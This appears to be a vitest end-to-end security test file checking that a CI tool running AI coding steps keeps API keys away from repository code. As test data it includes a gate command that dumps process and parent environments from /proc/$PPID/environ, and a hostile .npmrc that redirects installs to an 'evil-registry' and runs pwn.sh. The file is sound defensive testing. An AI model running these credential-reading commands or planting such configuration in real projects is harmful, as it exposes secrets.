import { mkdtempSync, readdirSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { createE2E, SIM_SECRETS } from './support/e2e-harness.js';
import { useE2E } from './support/inspect.js';

const world = useE2E();
const ENV_WALK = readFileSync(join(import.meta.dirname, 'support/attack/env-walk.mjs'), 'utf8');
const PRE_0016_WORKFLOW = readFileSync(join(import.meta.dirname, 'support/attack/pre-0016-workflow.yml'), 'utf8');

interface Walk {
  chain: { pid: number; cmd: string; env: Record<string, string> }[];
  tries: { token: string; push: string; ref: number; dispatch: number }[];
}
const secretsIn = (text: string) => Object.entries(SIM_SECRETS).filter(([, v]) => text.includes(v)).map(([k]) => k);
const readWalks = (dir: string, prefix: string): Walk[] =>
  readdirSync(dir)
    .filter((f) => f.startsWith(prefix) && f.endsWith('.json'))
    .map((f) => JSON.parse(readFileSync(join(dir, f), 'utf8')) as Walk);

/** A shell step that walks up its process chain (env-walk.mjs), run through the app and the simulated runner. */
async function walkFromAShellStep(workflow?: string): Promise<Walk> {
  const out = mkdtempSync(join(tmpdir(), 'uet-attack-'));
  const bundle = `bundle_id: walk
workstreams:
  - ws_id: code
    steps:
      - { step_id: s1, name: Look around, tool_profile_id: shell, context: { command: "node attack/env-walk.mjs ${out}/step.json && echo done > done.md" } }
`;
  const e = world.set(await createE2E({ bundle, prFiles: { 'attack/env-walk.mjs': ENV_WALK }, ...(workflow !== undefined ? { workflow } : {}) }));
  await e.comment('/uet run uet/bundle.yaml');
  await e.settle();
  return JSON.parse(readFileSync(join(out, 'step.json'), 'utf8')) as Walk;
}

describe('attack: repository code reads what its job holds (ADR 0016), through the simulated runner', () => {
  it('control: against the workflow before ADR 0016, the same shell step finds both AI keys up its process chain', async () => {
    const walk = await walkFromAShellStep(PRE_0016_WORKFLOW);
    expect(secretsIn(JSON.stringify(walk.chain))).toEqual(expect.arrayContaining(['ANTHROPIC_API_KEY', 'OPENAI_API_KEY']));
  });

  it('a shell step reading its own and every ancestor environment (/proc/$PPID/environ) finds no key, and its token writes nothing; a gate printing its environment puts no secret anywhere', async () => {
    const out = mkdtempSync(join(tmpdir(), 'uet-attack-'));
    const bundle = `bundle_id: attack
workstreams:
  - ws_id: code
    steps:
      - { step_id: s1, name: Look around, tool_profile_id: shell, context: { command: "node attack/env-walk.mjs ${out}/step.json && echo done > done.md" } }
    test_gates:
      - { gate_id: envdump, type: GATE_TEST, command: "env; tr '\\\\0' '\\\\n' < /proc/$PPID/environ; tr '\\\\0' '\\\\n' < /proc/$(awk '{print $4}' /proc/$PPID/stat)/environ" }
`;
    const e = world.set(await createE2E({ bundle, prFiles: { 'attack/env-walk.mjs': ENV_WALK } }));
    await e.comment('/uet run uet/bundle.yaml');
    await e.settle();
    const [runId] = await e.runIds();

    const walk = JSON.parse(readFileSync(join(out, 'step.json'), 'utf8')) as Walk;
    // The step, the action that runs it, and the job's runner process above them: none holds a secret.
    expect(walk.chain.length).toBeGreaterThanOrEqual(3);
    expect(walk.chain.some((c) => /runner-worker\.mjs/.test(c.cmd))).toBe(true);
    expect(secretsIn(JSON.stringify(walk.chain))).toEqual([]);
    // The only tokens in reach are the sandbox job's read-only GITHUB_TOKEN: GitHub refuses every write with it.
    expect(walk.tries.length).toBeGreaterThan(0);
    for (const t of walk.tries) {
      expect(t.push).toMatch(/^refused: .*(403|denied)/);
      expect([t.ref, t.dispatch]).toEqual([403, 403]);
    }
    expect(await e.sim.git.refSha('refs/heads/pwned')).toBeUndefined();
    expect(await e.sim.git.refSha('refs/heads/pwned-rest')).toBeUndefined();

    // The gate printed its environment and its parents': it ran (passed), and nothing secret reached the ledger,
    // the check runs or the comments.
    const events = await e.events(runId!);
    expect(events.find((x) => x.type === 'gate_completed')).toMatchObject({ data: { gate_id: 'envdump', passed: true } });
    const shown = JSON.stringify([events, e.sim.state.checkRuns, e.sim.state.comments]);
    expect(shown).toContain('GITHUB_'); // the gate's environment did reach the record: nothing was hidden from it
    expect(secretsIn(shown)).toEqual([]);
    expect(events.at(-1)).toMatchObject({ type: 'run_completed', data: { state: 'succeeded' } });
  });

  it("a claude step's job holds no OpenAI key and a codex step's job no Anthropic key, and a repository .npmrc does not change the tool install", async () => {
    const out = mkdtempSync(join(tmpdir(), 'uet-attack-'));
    const installs = join(out, 'installs.jsonl');
    const bundle = `bundle_id: tools
workstreams:
  - ws_id: docs
    steps:
      - { step_id: c1, name: Notes, tool_profile_id: claude, context: { instruction: "Write the notes", create_files: [docs/notes.md] } }
      - { step_id: x1, name: Guide, tool_profile_id: codex, depends_on: [c1], context: { instruction: "Write the guide", create_files: [docs/guide.md] } }
`;
    const e = world.set(
      await createE2E({
        bundle,
        toolInstalls: installs,
        // The repository tries to send the tool install to its own registry (and run its own scripts there).
        mainFiles: { '.npmrc': 'registry=http://127.0.0.1:9/evil-registry/\nscript-shell=./pwn.sh\n' },
      }),
    );
    await e.comment('/uet run uet/bundle.yaml');
    await e.settle();
    const [runId] = await e.runIds();
    const events = await e.events(runId!);
    expect(events.at(-1), e.dump()).toMatchObject({ type: 'run_completed', data: { state: 'succeeded' } });

    const jobsOf = (node: string) => e.runner.done.find((d) => d.run.inputs.step_id === node)!.jobs;
    expect(jobsOf('c1').map((j) => [j.job, j.result])).toEqual([['claude', 'success'], ['codex', 'skipped'], ['aider', 'skipped'], ['sandbox', 'success'], ['integrate', 'success']]);
    expect(jobsOf('x1').find((j) => j.job === 'codex')!.secrets).toEqual(['CODEX_API_KEY', 'OPENAI_API_KEY']);
    expect(jobsOf('c1').find((j) => j.job === 'claude')!.secrets).toEqual(['ANTHROPIC_API_KEY', 'CLAUDE_CODE_OAUTH_TOKEN']);
    for (const j of [...jobsOf('c1'), ...jobsOf('x1')].filter((j) => j.job === 'sandbox' || j.job === 'integrate')) expect(j.secrets).toEqual([]);

    // What each tool process could read up its process chain, recorded by the tool itself when it ran.
    const [claude] = readWalks(out, 'claude-');
    const [codex] = readWalks(out, 'codex-');
    expect(secretsIn(JSON.stringify(claude!.chain))).toEqual(['ANTHROPIC_API_KEY', 'CLAUDE_CODE_OAUTH_TOKEN']);
    // codex's job references CODEX_API_KEY || OPENAI_API_KEY: both OpenAI keys, nothing of Anthropic's or aider's.
    expect(secretsIn(JSON.stringify(codex!.chain))).toEqual(['OPENAI_API_KEY', 'CODEX_API_KEY']);

    // Each install ran before the checkout, outside the workspace, pinned, from the public registry: the .npmrc
    // was not there to read.
    const rows = readFileSync(installs, 'utf8').trim().split('\n').map((l) => JSON.parse(l) as { cwd: string; registry: string; pinned: boolean; args: string[] });
    expect(rows.length).toBe(2);
    for (const r of rows) {
      expect(r).toMatchObject({ registry: 'https://registry.npmjs.org/', pinned: true });
      expect(r.cwd).toMatch(/\/temp$/);
    }
  });
});
